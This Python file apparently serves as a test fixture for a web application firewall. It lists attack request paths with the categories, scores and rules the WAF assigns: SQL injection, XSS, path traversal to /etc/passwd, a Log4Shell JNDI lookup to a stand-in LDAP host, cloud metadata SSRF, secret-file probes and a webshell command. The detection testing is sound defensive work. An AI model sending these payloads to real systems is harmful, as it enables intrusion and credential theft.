"""What somebody tries against websites now and then, each with what the WAF makes of it (a test holds that it does)."""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    """A path, and the WAF's verdict on it as the log notes it: up to 64 characters of categories, and of rules."""

    path: str
    categories: str
    score: int
    rules: str

    @property
    def notes(self) -> str:
        return f"{self.categories} {self.score} {self.rules}"


ATTACKS = (
    Attack(
        "/products?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20",
        "SQL_INJECTION", 10, "sql-union-select,sql-comment-at-end",
    ),
    Attack(
        "/login?user=admin%27%20or%20%271%27=%271", "SQL_INJECTION", 10, "sql-condition,sql-condition-behind-quote"
    ),
    Attack("/item?id=1;%20DROP%20TABLE%20orders", "SQL_INJECTION", 10, "sql-stacked,sql-stacked-behind-quote"),
    Attack("/search?q=%3Cscript%3E", "XSS_ATTACKS", 9, "xss-script-tag,xss-page-structure"),
    Attack("/search?q=%22onfocus=%22alert(1)", "XSS_ATTACKS", 13, "xss-event-handler,xss-dialog-call"),
    Attack(
        "/download?file=../../../../etc/passwd", "DIRECTORY_TRAVERSAL,SENSITIVE_FILES", 25,
        "traversal-steps,traversal-step-in-value,traversal-unix-file",
    ),
    Attack("/?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "LOG4SHELL,SSRF,COMMAND_INJECTION", 14,
           "code-template-other,log4shell-lookup,ssrf-odd-scheme"),
    Attack("/fetch?url=http://169.254.169.254/latest/meta-data/", "SSRF", 5, "ssrf-metadata"),
    Attack("/.git/config", "SENSITIVE_FILES", 5, "files-hidden"),
    Attack("/.env", "SENSITIVE_FILES", 5, "files-hidden"),
    Attack("/wp-config.php.bak", "SENSITIVE_FILES", 10, "files-backup,files-configuration"),
    Attack("/phpmyadmin/setup.php", "SENSITIVE_FILES", 8, "files-console,files-admin-page"),
    Attack("/render?name=%7B%7B7*7%7D%7D", "COMMAND_INJECTION", 9, "code-template,code-template-other"),
    Attack(
        "/page?file=php://filter/convert.base64-encode/resource=index.php", "PATH_MANIPULATION", 5, "include-wrapper"
    ),
    Attack("/report?card=4111111111111111", "FINANCIAL_DATA", 10, "finance-card,finance-card-by-name"),
    Attack("/shell.php?cmd=whoami", "WEBSHELL_C2,COMMAND_INJECTION", 15,
           "command-whole,webshell-name,webshell-command"),
)  # fmt: skip
